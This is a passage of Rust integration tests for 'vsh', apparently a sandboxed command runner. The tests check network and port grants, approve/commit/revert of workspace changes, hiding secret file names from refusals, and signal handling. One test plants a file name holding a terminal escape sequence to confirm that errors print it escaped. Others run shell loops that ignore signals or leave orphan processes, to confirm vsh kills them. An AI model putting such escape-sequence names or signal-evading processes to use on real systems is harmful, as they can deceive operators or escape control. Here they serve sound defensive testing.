    // With a network, names resolve (/etc/hosts and the resolver's files
    // are readable); without one, the host's are not read at all: the
    // command's /etc/hosts names the loopback only.
    let resolve = "import socket\nprint(socket.gethostbyname('localhost'))";
    let named = vsh(
        &["exec", "--workspace", ws, "--json", "--allow-network", "loopback", "--", "python3", "-c", resolve],
        None,
    );
    assert_eq!(named.status.code(), Some(0), "{}", String::from_utf8_lossy(&named.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&named.stdout).unwrap();
    assert_eq!(receipt["stdout"], "127.0.0.1\n", "{receipt}");
    let hosts = vsh(&["exec", "--workspace", ws, "--json", "--", "cat", "/etc/hosts"], None);
    assert_eq!(hosts.status.code(), Some(0), "{}", String::from_utf8_lossy(&hosts.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&hosts.stdout).unwrap();
    assert_eq!(receipt["stdout"], "127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost ip6-loopback\n", "{receipt}");
}

#[test]
fn exec_allow_port_lets_a_command_connect_to_that_port_only() {
    if !fuse_available() {
        return;
    }
    // Two listeners of the host: the command may reach the one whose port is granted.
    let granted = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let other = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let (granted_port, other_port) = (granted.local_addr().unwrap().port(), other.local_addr().unwrap().port());
    // Both answer every connection (the threads end with the test process).
    for listener in [granted, other] {
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let _ = stream.map(|mut stream| std::io::Write::write_all(&mut stream, b"hi"));
            }
        });
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let ws = dir.path().to_str().unwrap();
    let connect = |port: u16| {
        format!(
            "import socket\nc = socket.create_connection(('127.0.0.1', {port}), timeout=5)\nprint(c.recv(2).decode())"
        )
    };
    let port = granted_port.to_string();
    let script = connect(granted_port);
    let reached =
        vsh(&["exec", "--workspace", ws, "--json", "--allow-port", &port, "--", "python3", "-c", &script], None);
    assert_eq!(reached.status.code(), Some(0), "{}", String::from_utf8_lossy(&reached.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&reached.stdout).unwrap();
    assert_eq!(receipt["stdout"], "hi\n");
    // Another port is refused by the kernel (both listeners answer), and
    // without the grant so is this one.
    let script = connect(other_port);
    let refused =
        vsh(&["exec", "--workspace", ws, "--json", "--allow-port", &port, "--", "python3", "-c", &script], None);
    assert_eq!(refused.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&refused.stderr).contains("PermissionError"), "{refused:?}");
    let script = connect(granted_port);
    let plain = vsh(&["exec", "--workspace", ws, "--json", "--", "python3", "-c", &script], None);
    assert_eq!(plain.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&plain.stderr).contains("PermissionError"), "{plain:?}");
}

#[test]
fn the_policy_file_names_the_scratch_directories() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let policy = dir.path().join("policy.toml");
    std::fs::write(&policy, "version = 1\n[commands]\nscratch = [\"build\"]\n").unwrap();
    let ws = dir.path().join("ws");
    write(&ws, "a.txt", "a\n");
    let ws = ws.to_str().unwrap();
    let script = "mkdir -p build target && echo x > build/out && echo y > target/out";
    let ran = vsh(
        &[
            "exec",
            "--workspace",
            ws,
            "--policy",
            policy.to_str().unwrap(),
            "--full",
            "--json",
            "--",
            "sh",
            "-c",
            script,
        ],
        None,
    );
    assert_eq!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout).unwrap();
    let paths: Vec<&str> = receipt["changes"].as_array().unwrap().iter().map(|c| c["path"].as_str().unwrap()).collect();
    assert_eq!(paths, ["target", "target/out"], "build is scratch, target is not: {receipt}");
    let kept = Path::new(ws).join(".vsh/data/scratch/build/out");
    assert_eq!(std::fs::read_to_string(kept).unwrap(), "x\n");
}

/// An error that quotes a path shows it escaped, as a receipt does (sec71
/// F2: a revert's refusal printed a name that cleared the terminal).
#[test]
fn an_error_naming_a_path_shows_it_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    let name = "a\u{1b}[2Jb.txt";
    write(&ws, name, "one\n");
    let ws_arg = ws.to_str().unwrap();
    let program = format!("from pathlib import Path\nPath('/workspace/{}').write_text('two\\n')", "a\\x1b[2Jb.txt");
    let made = vsh(&["run", "--workspace", ws_arg, "--mode", "auto", "-"], Some(&program));
    assert_eq!(made.status.code(), Some(0), "{}", String::from_utf8_lossy(&made.stderr));
    let id = id_of(&made);
    std::fs::write(ws.join(name), "three\n").unwrap();
    let refused = vsh(&["revert", "--workspace", ws_arg, &id], None);
    assert_eq!(refused.status.code(), Some(6));
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(stderr.contains("a\\x1b[2Jb.txt") && !stderr.contains('\u{1b}'), "{stderr:?}");
}

/// Approve pending work `id` in workspace `ws` and commit it, in one
/// (`approve --commit`, ux67 F6): exit 0, and the commit's receipt.
fn approve_and_commit(ws: &str, id: &str) {
    let landed = vsh(&["approve", "--commit", "--workspace", ws, id], None);
    assert_eq!(landed.status.code(), Some(0), "{}", String::from_utf8_lossy(&landed.stderr));
    let text = String::from_utf8_lossy(&landed.stdout);
    assert!(text.contains("state        committed"), "{text}");
}

/// `vsh revert` (ux65 F3): new work that puts back what a committed
/// transaction replaced (bytes, modes, deleted files, and no created ones),
/// reviewed and committed like any run; refused once the workspace moved
/// on, and for work that is not committed.
#[test]
fn revert_makes_work_that_puts_back_what_a_commit_replaced() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    write(&ws, "a.txt", "one\ntwo\n");
    write(&ws, "d/k.txt", "keep\n");
    let ws_arg = ws.to_str().unwrap();
    assert_eq!(vsh(&["init", "-q", "--workspace", ws_arg], None).status.code(), Some(0));
    let before = |path: &str| std::fs::read(ws.join(path)).ok();
    let (a, k) = (before("a.txt"), before("d/k.txt"));
    let mode = |path: &str| {
        std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(ws.join(path)).unwrap().permissions()) & 0o7777
    };
    let modes = (mode("a.txt"), mode("d/k.txt"));
    let program = "from pathlib import Path\nPath('/workspace/a.txt').write_text('one\\ntwo\\nthree\\n')\n\
                   Path('/workspace/d/k.txt').unlink()\nPath('/workspace/n.txt').write_text('new\\n')";
    let id = id_of(&vsh(&["run", "--workspace", ws_arg, "-"], Some(program)));
    let land = |id: &str| approve_and_commit(ws_arg, id);
    land(&id);
    assert_eq!(before("n.txt").as_deref(), Some(&b"new\n"[..]));
    // Its review says how to undo it (ux66 F7).
    let review = String::from_utf8_lossy(&vsh(&["show", "--workspace", ws_arg, &id], None).stdout).into_owned();
    assert!(review.contains(&format!("to undo it: vsh revert {}", &id[..12])), "{review}");
    // Not committed work is not reverted.
    let waiting = id_of(&vsh(
        &["run", "--workspace", ws_arg, "-"],
        Some("from pathlib import Path\nPath('/workspace/n.txt').unlink()"),
    ));
    let refused = vsh(&["revert", "--workspace", ws_arg, &waiting], None);
    assert_eq!(refused.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&refused.stderr).contains("only committed work can be reverted"));
    // The revert is work of its own: deleting n.txt waits for a review.
    let revert = vsh(&["revert", "--workspace", ws_arg, "--mode", "auto", &id], None);
    let text = String::from_utf8_lossy(&revert.stdout);
    assert_eq!(revert.status.code(), Some(4), "{text}{}", String::from_utf8_lossy(&revert.stderr));
    assert!(
        text.contains("pending-approval") && text.contains("delete  n.txt") && text.contains("create  d/k.txt"),
        "{text}"
    );
    assert!(before("n.txt").is_some(), "nothing is written before its commit");
    assert!(text.contains(&format!("revert of {}: what it replaced", &id[..12])), "its step names it: {text}");
    land(&id_of(&revert));
    assert_eq!((before("a.txt"), before("d/k.txt"), before("n.txt")), (a, k, None));
    // The reverted work's review says so (ux66 F7).
    let review = String::from_utf8_lossy(&vsh(&["show", "--workspace", ws_arg, &id], None).stdout).into_owned();
    assert!(review.contains(&format!("reverted by {}", &id_of(&revert)[..12])), "{review}");
    assert_eq!((mode("a.txt"), mode("d/k.txt")), modes);
    // The workspace no longer holds what the first work left: refused,
    // naming the paths and the later work in the way, here its own revert
    // (ux66 F2, ux67 F2), exit 6 as for stale work.
    let again = vsh(&["revert", "--workspace", ws_arg, &id], None);
    assert_eq!(again.status.code(), Some(6));
    let error = String::from_utf8_lossy(&again.stderr);
    let reverted = id_of(&revert);
    // Reverted already, it says so first, and no path (ux83 M1: thousands
    // of paths came before it).
    let said = format!("{} is reverted already, by {} (vsh show {})", &id[..12], &reverted[..12], &reverted[..12]);
    assert!(error.contains(&said) && !error.contains("a.txt"), "{error}");
    let json = vsh(&["revert", "--workspace", ws_arg, "--json", &id], None);
    let document: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(document["later_work"], serde_json::json!([reverted]), "{document}");
    assert_eq!(document["hint"], serde_json::json!(format!("vsh show {}", &reverted[..12])), "{document}");
    assert!(
        document["paths"].as_array().is_some_and(|paths| paths.contains(&serde_json::json!("a.txt"))),
        "{document}"
    );
    // Later work, then an edit outside vsh: reverting the later work would
    // not clear the way, and it says so instead of sending you there.
    let auto = |program: &str| id_of(&vsh(&["run", "--workspace", ws_arg, "--mode", "auto", "-"], Some(program)));
    let first = auto("from pathlib import Path\nPath('/workspace/c.txt').write_text('1\\n')");
    let second = auto("from pathlib import Path\nPath('/workspace/c.txt').write_text('2\\n')");
    std::fs::write(ws.join("c.txt"), "3, by hand\n").unwrap();
    let refused = vsh(&["revert", "--workspace", ws_arg, "--json", &first], None);
    let document: serde_json::Value = serde_json::from_slice(&refused.stdout).unwrap();
    let message = document["message"].as_str().unwrap_or_default();
    assert!(message.contains(&format!("by later work {} and by edits made outside vsh", &second[..12])), "{document}");
    assert_eq!(document["hint"], serde_json::Value::Null, "{document}");
    std::fs::write(ws.join("c.txt"), "2\n").unwrap();
    let refused = vsh(&["revert", "--workspace", ws_arg, "--json", &first], None);
    let document: serde_json::Value = serde_json::from_slice(&refused.stdout).unwrap();
    assert_eq!(document["hint"], serde_json::json!(format!("vsh revert {}", &second[..12])), "{document}");
    // An edit outside vsh between the work and the later work: reverting
    // the later work would leave it in the way just the same (ux68 M1).
    let first = auto("from pathlib import Path\nPath('/workspace/d.txt').write_text('1\\n')");
    std::fs::write(ws.join("d.txt"), "1\nby hand\n").unwrap();
    let append = "from pathlib import Path\np = Path('/workspace/d.txt')\np.write_text(p.read_text() + '2\\n')";
    let later = auto(append);
    let refused = vsh(&["revert", "--workspace", ws_arg, "--json", &first], None);
    let document: serde_json::Value = serde_json::from_slice(&refused.stdout).unwrap();
    let message = document["message"].as_str().unwrap_or_default();
    assert!(message.contains(&format!("by later work {} and by edits made outside vsh", &later[..12])), "{document}");
    assert_eq!(document["hint"], serde_json::Value::Null, "{document}");
    a_stale_revert_is_made_again_by_reverting_again(&ws, &second);
}

/// ux83 M2: `vsh revert TX` made another revert each time, five waiting at
/// once; ux83 M1: a refused revert listed every path changed since in one
/// line. A revert waits already: refused, naming it; the paths a refusal
/// lists are the first few, and how many more.
#[test]
fn a_revert_is_made_once_and_a_refused_one_names_few_paths() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    let program = "vsh_mkdir('gen')\nfor i in range(8):\n    vsh_write(f'gen/f{i}.txt', 'x')";
    let made = id_of(&vsh(&["run", "--workspace", ws, "--mode", "auto", "-"], Some(program)));
    let first = vsh(&["revert", "--workspace", ws, "--json", &made], None);
    assert_eq!(first.status.code(), Some(0), "{first:?}");
    let receipt: serde_json::Value = serde_json::from_slice(&first.stdout).unwrap();
    let waiting = receipt["transaction"].as_str().unwrap()[..12].to_owned();
    let again = vsh(&["revert", "--workspace", ws, &made], None);
    let said = String::from_utf8_lossy(&again.stderr);
    assert_eq!(again.status.code(), Some(1), "{said}");
    assert!(said.contains(&format!("a revert of {} waits already: {waiting}", &made[..12])), "{said}");
    // Not told to approve what may only need its commit (ux87 L4).
    assert!(said.contains("commit it, approving it first if it waits for a review"), "{said}");
    assert_eq!(vsh(&["reject", "-q", "--workspace", ws, &waiting], None).status.code(), Some(0));
    // Changed since by hand at every path: five named, and how many more.
    for i in 0..8 {
        write(dir.path(), &format!("gen/f{i}.txt"), "by hand");
    }
    let refused = vsh(&["revert", "--workspace", ws, "--json", &made], None);
    let document: serde_json::Value = serde_json::from_slice(&refused.stdout).unwrap();
    let message = document["message"].as_str().unwrap_or_default();
    assert!(message.contains("gen/f4.txt and 3 more") && !message.contains("gen/f5.txt"), "{document}");
    assert_eq!(document["total_conflicts"], 8, "{document}");
}

/// A revert gone stale is made again by reverting again, not by a rerun,
/// which cannot run it (ux67 F3), once nothing stands in that revert's way.
fn a_stale_revert_is_made_again_by_reverting_again(ws: &Path, second: &str) {
    let ws_arg = ws.to_str().unwrap();
    let stale = id_of(&vsh(&["revert", "--workspace", ws_arg, second], None));
    std::fs::write(ws.join("c.txt"), "2, edited again\n").unwrap();
    assert_eq!(vsh(&["commit", "--workspace", ws_arg, &stale], None).status.code(), Some(6));
    // While the edit that made it stale stands in the way of any revert,
    // it is not sent there (ux74 M3: that step was refused every time).
    let review = String::from_utf8_lossy(&vsh(&["show", "--workspace", ws_arg, &stale], None).stdout).into_owned();
    assert!(review.contains(&format!("next       vsh show {} (no revert of", &second[..12])), "{review}");
    assert!(review.contains("the workspace changed at c.txt since it was committed"), "{review}");
    let refused = vsh(&["commit", "--workspace", ws_arg, "--json", &stale], None);
    let document: serde_json::Value = serde_json::from_slice(&refused.stdout).unwrap();
    assert_eq!(document["hint"], serde_json::json!(format!("vsh show {}", &second[..12])), "{document}");
    let said = vsh(&["commit", "--workspace", ws_arg, &stale], None);
    let said = String::from_utf8_lossy(&said.stderr);
    assert!(said.contains("change them back by new work instead: vsh run"), "{said}");
    // Nor does a rerun of it, or its approval, send there (ux77 3).
    let rerun = vsh(&["rerun", "--workspace", ws_arg, &stale], None);
    let said = String::from_utf8_lossy(&rerun.stderr);
    assert!(said.contains(&format!("no revert of {} can be made now", &second[..12])), "{said}");
    let approve = vsh(&["approve", "--workspace", ws_arg, &stale], None);
    assert!(!String::from_utf8_lossy(&approve.stderr).contains("--approve-same"));
    let shown: serde_json::Value =
        serde_json::from_slice(&vsh(&["show", "--workspace", ws_arg, "--json", &stale], None).stdout).unwrap();
    assert_eq!(shown["receipt"]["next"], serde_json::json!(format!("vsh show {}", &second[..12])), "{shown}");
    assert_eq!(vsh(&["revert", "--workspace", ws_arg, second], None).status.code(), Some(6));
    // Once the path holds what the work left again, it is reverted again.
    std::fs::write(ws.join("c.txt"), "2\n").unwrap();
    let review = String::from_utf8_lossy(&vsh(&["show", "--workspace", ws_arg, &stale], None).stdout).into_owned();
    assert!(review.contains(&format!("next       vsh revert {}", &second[..12])), "{review}");
    // So does the refused commit, and a rerun of the revert says what does
    // (sec73 F2: the hint was `vsh rerun`, which cannot run a revert).
    let refused = vsh(&["commit", "--workspace", ws_arg, "--json", &stale], None);
    let document: serde_json::Value = serde_json::from_slice(&refused.stdout).unwrap();
    assert_eq!(document["hint"], serde_json::json!(format!("vsh revert {}", &second[..12])), "{document}");
    let rerun = vsh(&["rerun", "--workspace", ws_arg, &stale], None);
    assert_ne!(rerun.status.code(), Some(0));
    let error = String::from_utf8_lossy(&rerun.stderr);
    assert!(error.contains(&format!("`vsh revert {}` makes it again", &second[..12])), "{error}");
}

/// A revert puts back files the work removed without reading them (`rm`:
/// their commit keeps their bytes, ux66 F1), and never removes a directory
/// the work made that holds something added since (sec70 F1: it deleted it).
#[test]
fn revert_puts_back_files_removed_unread_and_keeps_what_was_added_since() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    write(&ws, "old/notes.txt", "unread notes\n");
    write(&ws, "keep.txt", "k\n");
    let ws_arg = ws.to_str().unwrap();
    assert_eq!(vsh(&["init", "-q", "--workspace", ws_arg], None).status.code(), Some(0));
    let exec = |script: &str| {
        let output = vsh(&["exec", "--workspace", ws_arg, "--json", "--", "sh", "-c", script], None);
        let receipt: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
        receipt["transaction"].as_str().unwrap().to_owned()
    };
    let land = |id: &str| approve_and_commit(ws_arg, id);
    // A file changed moments ago is hashed even unread (its stamp is not
    // settled yet): past that, a removal records its stamp alone.
    std::thread::sleep(std::time::Duration::from_millis(300));
    std::os::unix::fs::symlink("keep.txt", ws.join("link")).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(300));
    let removed = exec("rm old/notes.txt link");
    land(&removed);
    assert!(!ws.join("old/notes.txt").exists());
    let made = exec("mkdir made && echo first > made/one.txt");
    land(&made);
    // Python's bytecode cache beside it goes with it (ux67 F4: it blocked the undo).
    std::fs::create_dir_all(ws.join("made/__pycache__")).unwrap();
    std::fs::write(ws.join("made/__pycache__/one.cpython-311.pyc"), "pyc").unwrap();
    // Someone adds a file to the directory the work made.
    std::fs::write(ws.join("made/theirs.txt"), "theirs\n").unwrap();
    let refused = vsh(&["revert", "--workspace", ws_arg, &made], None);
    assert_eq!(refused.status.code(), Some(6), "{}", String::from_utf8_lossy(&refused.stdout));
    assert!(String::from_utf8_lossy(&refused.stderr).contains("made/theirs.txt"));
    assert_eq!(std::fs::read_to_string(ws.join("made/theirs.txt")).unwrap(), "theirs\n");
    // The removal comes back, bytes and all.
    let revert = vsh(&["revert", "--workspace", ws_arg, "--json", &removed], None);
    assert_eq!(revert.status.code(), Some(0), "{}", String::from_utf8_lossy(&revert.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&revert.stdout).unwrap();
    land(receipt["transaction"].as_str().unwrap());
    assert_eq!(std::fs::read_to_string(ws.join("old/notes.txt")).unwrap(), "unread notes\n");
    // A symlink's target is kept as a file's bytes are (ux67 F1).
    assert_eq!(std::fs::read_link(ws.join("link")).unwrap(), Path::new("keep.txt"));
    // A secret put there is named by its directory, never by itself
    // (sec72 F1: the refusal named it to whoever asked, an agent too).
    std::fs::write(ws.join("made/.env.production"), "KEY=1\n").unwrap();
    let refused = vsh(&["revert", "--workspace", ws_arg, "--json", &made], None);
    let document: serde_json::Value = serde_json::from_slice(&refused.stdout).unwrap();
    assert!(!document.to_string().contains(".env"), "{document}");
    assert!(document["paths"].as_array().is_some_and(|paths| paths.contains(&serde_json::json!("made"))), "{document}");
    std::fs::remove_file(ws.join("made/.env.production")).unwrap();
    // A directory of a cache's name holding anything else is no cache.
    std::fs::write(ws.join("made/__pycache__/notes.txt"), "mine").unwrap();
    std::fs::remove_file(ws.join("made/theirs.txt")).unwrap();
    let refused = vsh(&["revert", "--workspace", ws_arg, &made], None);
    assert_eq!(refused.status.code(), Some(6), "{}", String::from_utf8_lossy(&refused.stderr));
    assert!(String::from_utf8_lossy(&refused.stderr).contains("made/__pycache__"));
    // Once what was added since is gone, the made directory is reverted,
    // its cache with it.
    std::fs::remove_file(ws.join("made/__pycache__/notes.txt")).unwrap();
    let revert = vsh(&["revert", "--workspace", ws_arg, "--json", &made], None);
    assert_eq!(revert.status.code(), Some(0), "{}", String::from_utf8_lossy(&revert.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&revert.stdout).unwrap();
    land(receipt["transaction"].as_str().unwrap());
    assert!(!ws.join("made").exists());
}

/// pytest keeps its cache in its rootdir, the directory it runs in when no
/// config names one: from `tests/` too it goes to the workspace's
/// `.pytest_cache` scratch, never into the diff (ux65 F2); with no such
/// scratch directory, the cache in the diff is named with how to keep it
/// out. The command here places its cache as pytest does (`cache_dir` from
/// `PYTEST_ADDOPTS`, split as a shell would; else `.pytest_cache` where it
/// runs), so the test needs no pytest.
#[test]
fn pytest_keeps_its_cache_in_the_scratch_directory_from_any_directory() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    // A space and a quote in the workspace's path: the option is quoted.
    let ws = dir.path().join("it's ws");
    write(&ws, "tests/test_a.py", "def test_a():\n    pass\n");
    let like_pytest = "import os, shlex\nopts = shlex.split(os.environ.get('PYTEST_ADDOPTS', ''))\n\
                       at = [o.split('=', 1)[1] for o in opts if o.startswith('cache_dir=')]\n\
                       cache = at[-1] if at else '.pytest_cache'\n\
                       os.makedirs(os.path.join(cache, 'v', 'cache'), exist_ok=True)\n\
                       open(os.path.join(cache, 'v', 'cache', 'lastfailed'), 'w').write('{}')\n";
    write(dir.path(), "like_pytest.py", like_pytest);
    assert_eq!(vsh(&["init", "-q", "--workspace", ws.to_str().unwrap()], None).status.code(), Some(0));
    let run = |policy: &str| {
        let file = dir.path().join("policy.toml");
        std::fs::write(&file, policy).unwrap();
        let output = Command::new(env!("CARGO_BIN_EXE_vsh"))
            .args(["exec", "--policy", file.to_str().unwrap(), "--json", "--stdin"])
            .arg(dir.path().join("like_pytest.py"))
            .args(["--", "python3", "-"])
            .current_dir(ws.join("tests"))
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap())
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
        serde_json::from_slice::<serde_json::Value>(&output.stdout).unwrap()
    };
    let receipt = run("version = 1\n");
    assert_eq!(receipt["changes"], serde_json::json!([]), "{receipt}");
    let kept = ws.join(".vsh/data/scratch/.pytest_cache/v/cache/lastfailed");
    assert_eq!(std::fs::read_to_string(kept).unwrap(), "{}");
    // Without it among the scratch directories, the cache is in the diff,
    // and the receipt says how to keep it out.
    let receipt = run("version = 1\n[commands]\nscratch = [\"target\"]\n");
    let paths: Vec<&str> =
        receipt["changes"].as_array().unwrap().iter().map(|change| change["path"].as_str().unwrap()).collect();
    assert!(paths.contains(&"tests/.pytest_cache/v/cache/lastfailed"), "{receipt}");
    let warnings = receipt["warnings"].to_string();
    assert!(warnings.contains("tests/.pytest_cache") && warnings.contains("scratch = ["), "{warnings}");
}

/// `vsh ARGS --workspace WS` sent SIGINT after `delays.0` ms and again
/// `delays.1` ms later: what it printed and its status, how many files
/// `gen/` holds besides its `.keep`, and the state of `id` after.
fn interrupted_twice(args: &[&str], delays: (u64, u64), ws: &Path, id: &str) -> (Output, usize, String) {
    let child = Command::new(env!("CARGO_BIN_EXE_vsh"))
        .args(args)
        .arg("--workspace")
        .arg(ws)
        .env_clear()
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    for delay in [delays.0, delays.1] {
        std::thread::sleep(std::time::Duration::from_millis(delay));
        let _ = Command::new("kill").args(["-INT", &child.id().to_string()]).status();
    }
    let output = child.wait_with_output().unwrap();
    let files = std::fs::read_dir(ws.join("gen")).map_or(0, Iterator::count) - 1;
    let shown = vsh(&["show", id, "--workspace", ws.to_str().unwrap(), "--json"], None);
    let json: serde_json::Value = serde_json::from_slice(&shown.stdout).unwrap();
    (output, files, json["record"]["state"].as_str().unwrap_or_default().to_owned())
}

/// ux75 M2: Ctrl-C during `vsh commit` ended the process mid-commit,
/// saying nothing; its files stayed in the workspace until the next vsh
/// command rolled them back and failed the approved work. A signal now
/// stops a commit that has not begun (exit 130, the work waiting as it
/// was) or lets one that has run to its end (exit 0, committed), however
/// many signals come: either way it is said, and nothing is left for a
/// later command to recover.
#[test]
fn an_interrupted_commit_stops_before_it_begins_or_runs_to_its_end() {
    for delay in [150, 400, 900] {
        let dir = tempfile::tempdir().unwrap();
        write(dir.path(), "a.txt", "a\n");
        let ws = dir.path().to_str().unwrap();
        write(dir.path(), "gen/.keep", "");
        let program = "for i in range(1500):\n    vsh_write(f'gen/f{i}.txt', 'x' * 2000)";
        let id = id_of(&vsh(&["run", "--workspace", ws, "--timeout", "60s", "-"], Some(program)));
        assert_eq!(vsh(&["approve", &id, "--workspace", ws], None).status.code(), Some(0));
        // Twice, as an impatient operator does (sec81 1: the second ended a
        // begun commit halfway, silently).
        let (output, files, state) = interrupted_twice(&["commit", &id], (delay, 40), dir.path(), &id);
        let stderr = String::from_utf8_lossy(&output.stderr);
        match output.status.code() {
            // Stopped before it began: nothing written, the work waits.
            Some(130) => {
                assert!(stderr.contains("interrupted (SIGINT) before the commit changed anything"), "{stderr}");
                assert_eq!((files, state.as_str()), (0, "approved"), "{delay} ms: {stderr}");
            }
            // Begun: it finished, whole, and said so if the signal came in time.
            Some(0) => assert_eq!((files, state.as_str()), (1500, "committed"), "{delay} ms: {stderr}"),
            other => panic!("{delay} ms: exit {other:?} ({files} files, {state}): {stderr}"),
        }
        // Nothing was left for the next command to recover.
        let log = vsh(&["log", "--workspace", ws], None);
        assert!(
            !String::from_utf8_lossy(&log.stderr).contains("recovered"),
            "{}",
            String::from_utf8_lossy(&log.stderr)
        );
    }
}

/// ux77 F5: Ctrl-C during `vsh approve --commit` ended vsh with no word
/// while it approved, the work left approved for anything to commit. From
/// its start the command now catches the signal: before the approval nothing
/// is approved; after it, nothing is committed and the line says the work
/// is approved; once the commit has begun it runs to its end. Always exit
/// 130 with a line, or 0 committed.
#[test]
fn an_interrupted_approval_and_commit_says_what_stands() {
    let mut seen = std::collections::BTreeSet::new();
    for delay in [30, 60, 120, 250, 600] {
        let dir = tempfile::tempdir().unwrap();
        let ws = dir.path().to_str().unwrap();
        write(dir.path(), "gen/.keep", "");
        let program = "for i in range(1500):\n    vsh_write(f'gen/f{i}.txt', 'x' * 2000)";
        let id = id_of(&vsh(&["run", "--workspace", ws, "--timeout", "60s", "-"], Some(program)));
        // Twice, at once, as an impatient operator does (sec83 F3: the
        // second ended vsh while it approved, the work left approved).
        let (output, files, state) = interrupted_twice(&["approve", "--commit", &id], (delay, 3), dir.path(), &id);
        let stderr = String::from_utf8_lossy(&output.stderr);
        let outcome = match output.status.code() {
            Some(130) if stderr.contains("interrupted (SIGINT) before the approval: nothing was approved") => {
                assert_eq!((files, state.as_str()), (0, "pending-approval"), "{delay} ms: {stderr}");
                "before the approval"
            }
            Some(130) if stderr.contains("interrupted (SIGINT) before the commit") => {
                assert!(stderr.contains(&format!("vsh commit {}", &id[..12])), "{stderr}");
                // It was approved here: never "waits as it did" (sec83 F3).
                assert!(stderr.contains("is approved and waits for its commit"), "{stderr}");
                assert_eq!((files, state.as_str()), (0, "approved"), "{delay} ms: {stderr}");
                "approved, not committed"
            }
            Some(0) => {
                assert_eq!((files, state.as_str()), (1500, "committed"), "{delay} ms: {stderr}");
                "committed"
            }
            other => panic!("{delay} ms: exit {other:?} ({files} files, {state}): {stderr}"),
        };
        seen.insert(outcome);
    }
    // The signal came before the commit in one of them at least (30 ms is
    // after the approval here, and before its commit begins).
    assert!(seen.iter().any(|outcome| *outcome != "committed"), "{seen:?}");
}

#[test]
fn an_interrupted_exec_kills_the_command_tree_commits_nothing_and_exits_128_plus_the_signal() {
    if !fuse_available() {
        return;
    }
    for (signal, name, code) in [("-INT", "SIGINT", 130), ("-TERM", "SIGTERM", 143)] {
        let dir = tempfile::tempdir().unwrap();
        write(dir.path(), "a.txt", "kept\n");
        // A crate's: target is the scratch directory.
        write(dir.path(), "Cargo.toml", "");
        let ws = dir.path().to_str().unwrap();
        // A loop writing the workspace, and a background child that ignores
        // the polite signals writing a scratch file, until something stops them
        // (setsid is refused in a command, so the process group is the tree).
        let script = "sh -c 'trap \"\" INT TERM HUP; while :; do echo tick >> target/ticks; sleep 0.05; done' & \
                      echo up > target/started; while :; do echo x >> b.txt; sleep 0.05; done";
        let child = Command::new(env!("CARGO_BIN_EXE_vsh"))
            .args(["exec", "--workspace", ws, "--mode", "auto", "--", "sh", "-c", script])
            .env_clear()
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let scratch = dir.path().join(".vsh/data/scratch/target");
        let started = std::time::Instant::now();
        while !scratch.join("started").exists() || !scratch.join("ticks").exists() {
            if started.elapsed() > std::time::Duration::from_mins(1) {
                // SIGTERM, not SIGKILL: vsh stops the command's processes first.
                let _ = Command::new("kill").args(["-TERM", &child.id().to_string()]).status();
                panic!("the command never started: {:?}", child.wait_with_output().unwrap());
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        let killed = Command::new("kill").args([signal, &child.id().to_string()]).status().unwrap();
        assert!(killed.success());
        let output = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(code), "{name}: {stderr}");
        assert!(stderr.contains(&format!("interrupted ({name})")), "{stderr}");
        // Every process of the command is gone, the daemon included.
        let ticks = std::fs::read(scratch.join("ticks")).unwrap().len();
        std::thread::sleep(std::time::Duration::from_millis(400));
        assert_eq!(std::fs::read(scratch.join("ticks")).unwrap().len(), ticks, "{name}: something still writes");
        // Nothing was committed.
        assert!(!dir.path().join("b.txt").exists(), "{name}");
        assert_eq!(std::fs::read_to_string(dir.path().join("a.txt")).unwrap(), "kept\n");
    }
}

#[test]
fn a_vsh_killed_outright_leaves_no_command_running_for_long() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "Cargo.toml", "");
    let ws = dir.path().to_str().unwrap();
    // The command's shell, a child of it in the background and one that
    // left it (an orphan): each found on the host by its own arguments. The
    // shell writes its own process id to the scratch target/ (outside the
    // image): pid 2 of a pid namespace of its own.
    let marker = format!("{}.{}", 60 + std::process::id() % 1000, std::process::id());
    let script = format!("sleep {marker}1 & (sleep {marker}2 &) ; echo $$ > target/pids; sleep {marker}3");
    let mut child = Command::new(env!("CARGO_BIN_EXE_vsh"))
        .args(["exec", "--workspace", ws, "--", "sh", "-c", &script])
        .env_clear()
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let running = || -> usize {
        std::fs::read_dir("/proc")
            .unwrap()
